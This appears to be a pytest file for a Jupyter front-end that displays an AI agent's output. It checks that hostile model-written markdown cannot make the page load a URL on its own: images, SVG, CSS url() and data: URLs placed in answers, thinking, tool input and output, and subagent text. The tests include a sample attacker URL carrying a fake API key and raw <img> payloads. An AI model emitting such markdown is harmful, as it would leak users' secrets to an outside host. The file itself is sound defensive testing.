@@ -1,0 +1,132 @@
+"""No output loads anything by itself (issue 8): hostile model markdown in every surface.
+
+Each corpus snippet (tests/support/hostile_markdown.py) tries to make an output fetch a URL
+without a click: images inline, by reference, in tables, quotes, lists, link text, thinking and
+tool output; protocol-relative, ``file:``, relative and ``data:`` URLs; raw ``<img>``, SVG,
+``srcset``, CSS ``url()`` and the like. The rendered HTML (live widget and text/html) is parsed
+and every tag and attribute checked; the text/markdown bundle is rendered by a CommonMark
+renderer that passes raw HTML through (as JupyterLab does for trusted output) and checked the
+same way. The browser test does the same in JupyterLab and nbconvert HTML, counting requests.
+"""
+
+from __future__ import annotations
+
+import ipywidgets as W
+import mistune
+import pytest
+from support.hostile_markdown import corpus, corpus_text, loaders
+
+from byre_jupyter.ui import static
+from byre_jupyter.ui.markdown import clean_html, escape_markdown_html, render_markdown
+from byre_jupyter.ui.static import static_outputs, turn_html, turn_markdown
+
+from . import fixtures as fx
+from .test_live import Harness
+
+BASE = "http://attacker.invalid:8765"
+CORPUS = corpus(BASE)
+HOST = "attacker.invalid"
+
+# A renderer that passes raw HTML through, like JupyterLab's marked for trusted outputs.
+_permissive = mistune.create_markdown(escape=False, plugins=["table", "strikethrough", "url"])
+
+
+def _markdown_to_html(markdown: str) -> str:
+    html = _permissive(markdown)
+    assert isinstance(html, str)
+    return html
+
+
+@pytest.mark.parametrize("name", sorted(CORPUS))
+def test_rendered_html_has_nothing_that_loads(name: str) -> None:
+    html = render_markdown(CORPUS[name])
+    assert loaders(html) == [], html
+
+
+@pytest.mark.parametrize("name", sorted(CORPUS))
+def test_markdown_fallback_renders_no_image(name: str) -> None:
+    markdown = escape_markdown_html(CORPUS[name])
+    html = _markdown_to_html(markdown)
+    assert loaders(html) == [], (markdown, html)
+
+
+def test_a_blocked_image_stays_visible_as_inert_text() -> None:
+    html = render_markdown(CORPUS["inline"])
+    assert "chart" in html and f"{BASE}/inline?k=sk-ant-api03-SECRET" in html
+    assert "not loaded" in html
+    # In the markdown fallback it is at most a link someone has to click.
+    md_html = _markdown_to_html(escape_markdown_html(CORPUS["inline"]))
+    assert f'<a href="{BASE}/inline?k=sk-ant-api03-SECRET">chart</a>' in md_html
+    # Code keeps its text exactly.
+    code = render_markdown("`![x](http://h/y)`")
+    assert "<code>![x](http://h/y)</code>" in code
+
+
+def test_embedded_data_image_in_model_text_is_not_shown() -> None:
+    for name in ("data-png", "data-svg"):
+        assert "data:image" not in render_markdown(CORPUS[name]).split("not loaded")[0]
+        assert "<img" not in _markdown_to_html(escape_markdown_html(CORPUS[name]))
+
+
+def _hostile_turn() -> list[fx.Wire]:
+    """The corpus as answer text, thinking, tool input/output, a subagent's text and a notice;
+    plus a text block that leaves a fence open before one that starts with a fence."""
+    text = corpus_text(BASE)
+    b = fx.Builder("loads")
+    m1, m2, m3 = "msg_loads_1", "msg_loads_2", "msg_loads_3"
+    return [
+        b.init(),
+        b.status(),
+        b.message_start(m1),
+        b.assistant(m1, {"type": "thinking", "thinking": text, "signature": "s"}),
+        b.assistant(m1, {"type": "text", "text": "before\n```\nan unclosed fence"}),
+        b.assistant(m1, {"type": "text", "text": CORPUS["after-fence"]}),
+        b.assistant(
+            m1, {"type": "tool_use", "id": "t_agent", "name": "Task", "input": {"prompt": text}}
+        ),
+        b.assistant(
+            "msg_sub",
+            {"type": "text", "text": text},
+            parent="t_agent",
+        ),
+        b.assistant(
+            m1, {"type": "tool_use", "id": "t_bash", "name": "Bash", "input": {"command": text}}
+        ),
+        b.message_stop(m1),
+        b.tool_result("t_bash", text),
+        b.tool_result("t_agent", text),
+        b.system("permission_denied", tool_name="Bash", message=CORPUS["inline"]),
+        *b.final_answer(m2, text),
+        *b.final_answer(m3, "after\n" + CORPUS["unclosed-fence"]),
+        b.result(text, num_turns=3),
+    ]
+
+
+def test_static_bundle_loads_nothing() -> None:
+    view, _ = fx.run_turn(_hostile_turn(), prompt=corpus_text(BASE))
+    html = turn_html(view)
+    assert loaders(html) == []
+    assert "<img" not in html.lower() and HOST in html  # blocked, but visible
+    md_html = _markdown_to_html(turn_markdown(view))
+    assert loaders(md_html) == [], [line for line in md_html.splitlines() if "<img" in line]
+    data = static_outputs(view)[0][0]
+    assert data["text/html"] == html and data["text/markdown"] == turn_markdown(view)
+
+
+def test_live_widget_loads_nothing() -> None:
+    h = Harness()
+    h.feed(_hostile_turn())
+    h.live.finish()
+    html = [w.value for w in h.find(W.HTML)]
+    assert any(HOST in value for value in html)
+    bad = [(value[:200], loaders(value)) for value in html if loaders(value)]
+    assert bad == []
+    h.live.close()
+
+
+@pytest.mark.parametrize("name", sorted(n for n in CORPUS if n.startswith("raw-")))
+def test_the_sanitizers_alone_strip_everything_that_loads(name: str) -> None:
+    """The second fence: if a renderer ever let raw HTML through, nh3 still drops it."""
+    raw = CORPUS[name] + f'<img src="{BASE}/x"><p style="background:url({BASE}/y)">p</p>'
+    assert loaders(clean_html(raw)) == []
+    assert loaders(static._final_clean(raw)) == []
